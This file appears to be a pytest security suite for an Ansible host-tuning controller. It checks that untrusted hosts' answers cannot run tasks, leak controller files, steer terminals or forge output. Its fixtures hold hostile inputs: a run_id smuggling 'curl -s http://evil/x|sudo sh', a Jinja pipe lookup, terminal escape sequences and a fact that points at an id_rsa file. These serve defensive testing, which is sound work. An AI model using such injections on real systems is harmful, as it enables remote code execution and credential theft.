"""A host that is not trusted answers as it likes: no answer runs anything on the controller, reads
a file of it, chooses its settings, steers its terminal or takes the answers of the other hosts
away. The hosts are local connections whose Python is a script that prints an answer; the controller
is real.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.fleet.controller import (
    OF_UBUNTU_24_04,
    PLAYBOOKS,
    Controller,
    Played,
    environment,
    pythons,
)
from tests.hosts.built import HOSTS

pytestmark = pytest.mark.fleet

# It keeps what the host is sent, and answers by the name of the module. No module of Ansible runs
# here.
INTERPRETER = """\
#!/bin/sh
case "$1" in *AnsiballZ_*) ;; *) exec /usr/bin/python3 "$@" ;; esac
name=${1##*AnsiballZ_}
cp "$1" '%(folder)s'/sent.$$.py
cat '%(folder)s'/"${name%%.py}".json 2>/dev/null || echo '{"changed": false}'
"""
CHANGE = {
    "rule": "memory-swappiness",
    "address": "sysctl:vm.swappiness",
    "action": "update",
    "before": "60",
    "after": "10",
}
ANSWER: dict[str, Any] = {
    "changed": False, "digest": "", "changes": [], "compliant": True, "findings": [], "run_id": "", "approved": True,
    "reboot_reasons": [], "reboot_obstacles": [], "reboot_required": False, "deferred": [], "waiting": [], "interrupted": [],
    "trial": {},
}  # fmt: skip
LIVE = {
    "run": "r1", "state": "on trial: live", "is_open": True, "until": "2026-11-24T14:32:00+00:00", "within_s": 30,
    "boot_within_s": 30, "live": ["memory-swappiness"], "next_boot": [], "one_boot": [],
}  # fmt: skip
WAITS = {"reboot_required": True, "reboot_reasons": ["memory-swappiness: host"]}
ESCAPES = "\x1b]0;TITLE\x07\x1b[2J\u202e\x9b31m {{ lookup('pipe', 'touch ran') }}"


class Hosts:
    """A controller and hosts that answer what a test gives them."""

    def __init__(self, programs: Path, folder: Path) -> None:
        self.folder = folder
        self.bundle = folder / "hosttune.pyz"
        self.bundle.write_text("the chosen bundle")
        self._names: dict[str, dict[str, Any]] = {}
        self._controller = Controller(programs, folder / "inventory.json", self.bundle, folder)
        tasks = [
            {"ansible.builtin.file": {"path": str(folder / "pwned"), "state": "touch"}, "delegate_to": "localhost", "vars": {"ansible_python_interpreter": "/usr/bin/python3"}},
            {"ansible.builtin.fail": {"msg": "end of the payload"}},  # so that nothing is ever rebooted here
        ]  # fmt: skip
        self.payload = folder / "payload.yml"
        self.payload.write_text(json.dumps(tasks))

    def add(
        self, name: str, variables: dict[str, Any] | None = None, **answers: dict[str, Any]
    ) -> None:
        """A host, with its answer to each module."""
        own = self.folder / f"host{len(self._names)}"
        own.mkdir()
        interpreter = own / "python"
        interpreter.write_text(INTERPRETER % {"folder": own})
        interpreter.chmod(0o755)
        for module, answer in answers.items():
            (own / f"{module}.json").write_text(json.dumps(answer))
        self._names[name] = {
            "ansible_connection": "local", "ansible_python_interpreter": str(interpreter), "ansible_pipelining": False,
            "ansible_become": False, **(variables or {}),
        }  # fmt: skip
        (self.folder / "inventory.json").write_text(json.dumps({"all": {"hosts": self._names}}))

    def play(self, playbook: str | list[dict[str, Any]], *words: str, **variables: Any) -> Played:
        seen = self._controller.play(playbook, *words, **variables)
        assert not (self.folder / "pwned").exists(), seen.output
        assert not (self.folder / "ran").exists(), seen.output
        return seen

    def sent(self, name: str) -> str:
        """All that a host was sent as modules."""
        folder = self.folder / f"host{list(self._names).index(name)}"
        return "".join(path.read_text(errors="replace") for path in sorted(folder.glob("sent.*")))

    def has_sent(self, name: str, content: str) -> bool:
        sent = self.sent(name)
        sites = (
            base64.b64decode(one).decode() for one in re.findall(r'"_site\W+([\w+/=]+)', sent)
        )  # policy and rules
        return base64.b64encode(content.encode()).decode() in sent or any(
            content in text for text in (sent, *sites)
        )


@pytest.fixture
def hosts(programs: Path, tmp_path: Path) -> Hosts:
    return Hosts(programs, tmp_path)


@pytest.fixture(params=["newest", "oldest"])
def either_hosts(request: pytest.FixtureRequest, programs: Path, tmp_path: Path) -> Hosts:
    return Hosts(
        programs if request.param == "newest" else environment(pythons()[-1], OF_UBUNTU_24_04),
        tmp_path,
    )


def facts(hosts: Hosts) -> dict[str, Any]:
    return {"hosttune_reboot": True, "hosttune_drain_tasks": str(hosts.payload)}


def test_facts_in_an_answer_run_no_tasks_on_the_controller(either_hosts: Hosts):
    hosts = either_hosts
    answer = (
        ANSWER
        | WAITS
        | {"ansible_facts": facts(hosts), "add_host": {"host_name": "new", "groups": []}}
    )
    hosts.add("evil", {"hosttune_reboot": False}, tune=answer)
    seen = hosts.play("apply.yml")
    assert seen.status == 0, seen.output
    assert "Drain" not in seen.output
    assert "1 host: to reboot\n  evil: memory-swappiness: host\n" in seen.output


def test_facts_in_an_answer_send_no_file_of_the_controller(hosts: Hosts):
    (hosts.folder / "id_rsa").write_text("SECRET")
    hosts.add("evil", tune=ANSWER | {"trial": LIVE, "run_id": "r1", "kept": True, "ansible_facts": {"hosttune_bundle": str(hosts.folder / "id_rsa")}})  # fmt: skip
    seen = hosts._controller.run(
        "ansible-playbook", "-i", str(hosts.folder / "inventory.json"), str(PLAYBOOKS / "apply.yml"),
        env={"XDG_CACHE_HOME": str(hosts.folder / "cache")},
    )  # fmt: skip
    assert "Confirm over a new connection" in seen.stdout, seen.stdout + seen.stderr
    assert hosts.sent("evil")
    assert not hosts.has_sent("evil", "SECRET")


SITE = [{"hosts": "all", "gather_facts": True, "roles": ["hosttune.hosttune.hosttune"]}]


def test_facts_that_a_site_gathers_are_refused_with_host_and_name(either_hosts: Hosts):
    hosts = either_hosts
    hosts.add(
        "evil",
        {"hosttune_reboot": False},
        setup={"ansible_facts": facts(hosts)},
        tune=ANSWER | WAITS,
    )
    seen = hosts.play(SITE)
    assert seen.status == 2, seen.output
    assert (
        "evil: its facts set hosttune_drain_tasks, hosttune_reboot, which only the controller may set"
        in seen.output
    )
    assert '"state": "applied"' not in hosts.sent("evil")


def test_facts_that_a_site_gathers_are_not_printed(hosts: Hosts):
    """Ansible validates the variables of a role before its first task, and prints the value that
    does not fit.
    """
    spoilt = "\x1b[2J\x1b]0;T\x07\nPLAY RECAP ***\ngood : ok=9"
    names = (
        "max_risk",
        "disturb",
        "install",
        "reboot_timeout",
        "reboot",
        "select",
        "policy",
        "deb",
    )
    hosts.add(
        "evil", setup={"ansible_facts": {f"hosttune_{name}": spoilt for name in names}}, tune=ANSWER
    )
    seen = hosts.play(SITE)
    assert seen.status == 2, seen.output
    assert "evil: its facts set hosttune_deb" in seen.output
    assert "\x1b" not in seen.output
    assert "good : ok=9" not in seen.output


@pytest.mark.parametrize(
    ("name", "value"), [("reboot", "perhaps"), ("reboot_timeout", "soon"), ("install", "rpm")]
)
def test_wrong_value_of_the_role_is_refused_before_the_host_is_asked(
    hosts: Hosts, name: str, value: str
):
    hosts.add("good", tune=ANSWER)
    seen = hosts.play([SITE[0] | {"gather_facts": False}], **{f"hosttune_{name}": value})
    assert seen.status == 2, seen.output
    assert f"hosttune_{name}: '{value}' is " in seen.output
    assert not hosts.sent("good")


def test_facts_choose_no_file_through_other_variables_and_those_of_the_inventory_count(
    either_hosts: Hosts,
):
    """A fact site_folder would beat that of the inventory, of which the path of the policy is
    made.
    """
    hosts = either_hosts
    for name in ("site", "secret"):
        (hosts.folder / name).mkdir()
        (hosts.folder / name / "noble.yaml").write_text(f"# policy of {name}")
    gathered = {
        "ansible_facts": {
            "site_folder": str(hosts.folder / "secret"),
            "ansible_distribution_release": "noble",
        }
    }
    variables = {
        "site_folder": str(hosts.folder / "site"),
        "hosttune_policy_file": "{{ site_folder }}/{{ ansible_facts.distribution_release }}.yaml",
        "hosttune_profile": "inference",
    }
    own = {"ansible.builtin.set_fact": {"hosttune_ignore": ["set-by-the-play"]}}
    hosts.add("evil", variables, setup=gathered, tune=ANSWER)
    seen = hosts.play([SITE[0] | {"pre_tasks": [own]}])
    assert seen.status == 0, seen.output
    assert hosts.has_sent("evil", "# policy of site")
    assert hosts.has_sent("evil", "set-by-the-play")
    assert hosts.has_sent("evil", "the chosen bundle")
    assert hosts.has_sent("evil", "inference")
    assert not hosts.has_sent("evil", "# policy of secret")


def test_facts_choose_nothing_through_hostvars(either_hosts: Hosts):
    hosts = either_hosts
    for name in ("evil", "good"):
        words = ["{{ hostvars[inventory_hostname].chosen }}", "{{ hostvars['evil'].chosen }}"]
        hosts.add(name, {"chosen": "of-the-inventory", "hosttune_select": words}, setup={"ansible_facts": {"chosen": "of-the-host"} if name == "evil" else {}}, tune=ANSWER)  # fmt: skip
    seen = hosts.play(SITE)
    assert seen.status == 0, seen.output
    for name in ("evil", "good"):
        assert hosts.has_sent(name, "of-the-inventory")
        assert not hosts.has_sent(name, "of-the-host")


def test_facts_set_no_words_of_a_playbook(hosts: Hosts):
    """They are read once, on the first host of the play, which may be this one."""
    away = str(hosts.folder / "elsewhere")
    words = {
        "results": away,
        "omit": away,
        "approved": "1" * 64,
        "hosttune_require_compliant": False,
    }
    hosts.add("evil", setup={"ansible_facts": words}, tune_info=ANSWER)
    hosts.add(
        "good",
        setup={"ansible_facts": {}},
        tune_info=ANSWER | {"compliant": False, "check": {"host": "x"}},
    )
    gather: list[dict[str, Any]] = [{"hosts": "all", "gather_facts": True, "tasks": []}]
    seen = hosts.play(
        [*gather, {"ansible.builtin.import_playbook": str(PLAYBOOKS / "check.yml")}], results=""
    )
    assert seen.status == 2, seen.output
    assert not (hosts.folder / "elsewhere").exists()
    assert not (hosts.folder / "hosttune-results").exists()
    assert (
        "evil: its facts set hosttune_require_compliant, omit, which only the controller may set"
        in seen.output
    )
    assert re.search(r"^fatal: \[good\]: .*not ok: it gives no reason ", seen.output, re.MULTILINE)


@pytest.mark.parametrize("playbook", ["check.yml", "apply.yml"])
def test_host_that_says_to_be_another_one_fails(hosts: Hosts, playbook: str):
    hosts.add(
        "evil",
        setup={"ansible_facts": {"inventory_hostname": "good"}},
        tune_info=ANSWER,
        tune=ANSWER,
    )
    hosts.add(
        "good",
        setup={"ansible_facts": {}},
        tune_info=ANSWER | {"check": {"host": "x"}},
        tune=ANSWER,
    )
    gather: list[dict[str, Any]] = [{"hosts": "all", "gather_facts": True, "tasks": []}]
    play = [*gather, {"ansible.builtin.import_playbook": str(PLAYBOOKS / playbook)}]
    seen = hosts.play(play, results="", hosttune_serial="100%")
    assert seen.status == 2, seen.output
    assert (
        "evil: its facts set inventory_hostname, which only the controller may set" in seen.output
    )
    assert re.search(r"^evil .* failed=1 ", seen.output, re.MULTILINE), seen.output
    assert re.search(r"^good .* failed=0 ", seen.output, re.MULTILINE), seen.output


def test_facts_that_come_later_change_no_setting(hosts: Hosts):
    """Each module of Ansible's own hands on the facts that a host answers; the package is brought
    after one of them.
    """
    (hosts.folder / "hosttune.deb").write_text("the chosen package")
    (hosts.folder / "id_rsa").write_text("SECRET")
    later = {"changed": False, "ansible_facts": {"hosttune_deb": str(hosts.folder / "id_rsa")}}
    hosts.add("evil", {"hosttune_install": "deb", "hosttune_deb": str(hosts.folder / "hosttune.deb")}, tune=ANSWER, file=later)  # fmt: skip
    seen = hosts.play(
        [{"hosts": "all", "gather_facts": False, "roles": ["hosttune.hosttune.hosttune"]}]
    )
    assert seen.status == 2, seen.output
    assert "evil: its facts set hosttune_deb, which only the controller may set" in seen.output


MALFORMED: dict[str, Any] = {"digest": "abc", "changes": [{}], "findings": 5}
PLAN = ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "check": {"host": "x"}, "plan_diff": []}
FAKED = "x\r1 host: nothing to change\n2 hosts: made\n  good"
RECORD = HOSTS / "no-gpu-debian12.json"


@pytest.fixture(scope="module", params=["newest", "oldest"])
def looked(
    request: pytest.FixtureRequest, programs: Path, tmp_path_factory: pytest.TempPathFactory
) -> tuple[Hosts, Played]:
    """One play of check.yml over all kinds of hosts, the first of them a bad one: on it runs what
    runs once.
    """
    own = programs if request.param == "newest" else environment(pythons()[-1], OF_UBUNTU_24_04)
    hosts = Hosts(own, tmp_path_factory.mktemp("looked"))
    hosts.add("bad", tune_info=ANSWER | MALFORMED)
    hosts.add("tasks", tune_info=PLAN | {"record": hosts.payload.read_text()})
    for name in ("../../trav", ".hidden"):
        hosts.add(name, tune_info=ANSWER | {"check": {"host": "x"}})
    hosts.add("good", tune_info=PLAN | {"record": RECORD.read_text()})
    hosts.add("liar", tune_info=PLAN | {"changes": [CHANGE | {"after": "11"}]})
    loud = {
        "digest": "2" * 64, "changes": [CHANGE | {"rule": ESCAPES, "address": FAKED}], "reboot_reasons": [ESCAPES],
        "interrupted": [FAKED], "plan_diff": [{"prepared": ESCAPES}], "warnings": [ESCAPES], "deprecations": [{"msg": ESCAPES}],
        "deferred": [{"rule": "r", "subject": "", "reason": ESCAPES}], "exception": ESCAPES,
    }  # fmt: skip
    hosts.add("loud", tune_info=ANSWER | loud)
    hosts.add(
        "loud-failed", tune_info={"failed": True, "msg": ESCAPES + FAKED, "exception": ESCAPES}
    )
    hosts.add("junk", tune_info={})
    (hosts.folder / "host8/tune_info.json").write_text(f"{ESCAPES}\n{{}}\n{ESCAPES}\r{FAKED}\n")
    seen = hosts.play("check.yml", gather="record", results=str(hosts.folder / "a/b/results"))
    assert seen.status == 2, seen.output
    return hosts, seen


def test_record_is_kept_only_if_it_is_one(looked: tuple[Hosts, Played]):
    hosts, seen = looked
    assert (
        "tasks: the answer of this host is none of hosttune: record: expected a record of hosttune"
        in seen.output
    )
    records = hosts.folder / "a/b/results/records"
    assert [path.name for path in records.iterdir()] == ["good.json"]
    assert (records / "good.json").read_text() == RECORD.read_text()


def test_malformed_answer_costs_its_host_only(looked: tuple[Hosts, Played]):
    hosts, seen = looked
    why = "the answer of this host is none of hosttune: digest: expected 64 digits of 0-9 and a-f"
    assert f"\n  bad: {why}\n" in seen.output
    kept = {
        path.stem: json.loads(path.read_text()) for path in hosts.folder.glob("a/b/results/*.json")
    }
    assert kept["good"]["hosts"] == [{"host": "good"}]
    assert (kept["bad"]["kind"], kept["bad"]["reason"]) == ("hosttune missing", why)


def test_text_of_a_host_steers_no_terminal_and_makes_no_line(looked: tuple[Hosts, Played]):
    _hosts, seen = looked
    assert "\n  loud: \\x1b]0;TITLE\\x07\\x1b[2J\\u202e\\x9b31m {{ lookup(" in seen.output
    assert not [char for char in seen.output if not char.isprintable() and char not in "\n\t"], (
        seen.output
    )
    assert "\n2 hosts: made" not in seen.output
    assert "\n1 host: nothing to change" not in seen.output


def test_name_in_the_inventory_leaves_no_folder(looked: tuple[Hosts, Played]):
    hosts, seen = looked
    assert (
        "../../trav: not all that it answered is kept: its name in the inventory is not a valid file name"
        in seen.output
    )
    kept = {
        path.name
        for path in hosts.folder.rglob("*.json")
        if path.name in ("trav.json", ".hidden.json")
    }
    assert kept == set()


def test_digest_for_which_hosts_show_other_changes_is_told(looked: tuple[Hosts, Played]):
    """One diff is shown for all hosts with a digest, and what is approved is the digest."""
    assert "\n2 hosts: other changes for the same digest" in looked[1].output
    assert f"\n  digest {'1' * 64}: good other than liar\n" in looked[1].output


def test_rollout_names_a_bad_answer_and_prints_no_command_of_a_host(hosts: Hosts):
    injected = {
        "digest": "1" * 64,
        "changes": [CHANGE],
        "run_id": "r1; curl -s http://evil/x|sudo sh #",
    }
    hosts.add("bad", tune=ANSWER | MALFORMED)
    hosts.add("evil", tune=ANSWER | injected)
    hosts.add(
        "good",
        tune=ANSWER | {"digest": "1" * 64, "changes": [CHANGE], "run_id": "20260101-000000-abcd"},
    )
    seen = hosts.play("apply.yml", hosttune_serial="100%")
    assert seen.status == 2, seen.output
    assert "\n1 host: 1 change made\n  good\n" in seen.output
    told = seen.output.partition("2 hosts: failed or gave no answer\n")[2]
    assert told.startswith("  bad: the answer of this host is none of hosttune: digest: ")
    assert (
        "\n  evil: the answer of this host is none of hosttune: run_id: expected the name of a run\n"
        in told
    )
    assert "/undo.yml -e run_id=20260101-000000-abcd\n" in seen.output
    assert "curl" not in seen.output
